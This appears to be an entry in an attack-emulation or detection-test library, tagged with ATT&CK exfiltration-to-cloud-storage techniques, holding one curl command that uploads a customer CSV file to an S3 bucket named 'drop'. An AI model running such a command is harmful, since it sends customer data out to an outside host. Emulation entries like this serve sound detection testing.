# title: curl puts data into a bucket
# technique: T1567.002 T1567
# needs: curl

curl -s -T /srv/data/customers-1.csv http://drop.s3.amazonaws.com/c.csv
